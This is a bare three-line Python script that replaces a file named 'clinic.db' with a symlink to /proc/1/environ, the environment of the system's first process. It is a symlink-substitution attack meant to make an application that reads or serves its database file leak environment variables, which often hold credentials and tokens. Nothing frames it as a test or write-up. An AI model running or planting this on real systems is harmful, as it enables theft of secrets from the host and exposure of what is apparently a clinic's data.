import os

os.symlink("/proc/1/environ", "clinic.db")
